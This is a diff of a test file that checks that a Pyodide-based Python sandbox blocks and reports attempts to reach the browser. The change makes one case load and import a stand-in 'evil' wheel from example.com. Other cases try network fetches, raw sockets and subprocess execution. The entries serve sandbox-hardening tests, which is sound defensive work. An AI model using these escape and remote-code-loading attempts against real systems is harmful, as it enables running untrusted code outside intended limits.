@@ -51,7 +51,7 @@ test('the browser around Python is out of reach, and each attempt is reported', 
       'pyodide fetch': 'from pyodide.http import pyfetch\nimport asyncio\nasyncio.run(pyfetch("https://example.com/"))',
       'pyodide open_url': 'from pyodide.http import open_url\nopen_url("https://example.com/")',
       'remote package':
-        'import pyodide_js, asyncio\nfrom pyodide.ffi import run_sync\nrun_sync(pyodide_js.loadPackage("https://example.com/x.whl"))',
+        'import pyodide_js, asyncio\nfrom pyodide.ffi import run_sync\nrun_sync(pyodide_js.loadPackage("https://example.com/evil-1.0-py3-none-any.whl"))\nimport evil',
       urllib: 'import urllib.request\nurllib.request.urlopen("https://example.com/", timeout=2)',
       socket: 'import socket\nsocket.create_connection(("example.com", 443), timeout=1)',
       subprocess: 'import subprocess\nsubprocess.run(["id"])',
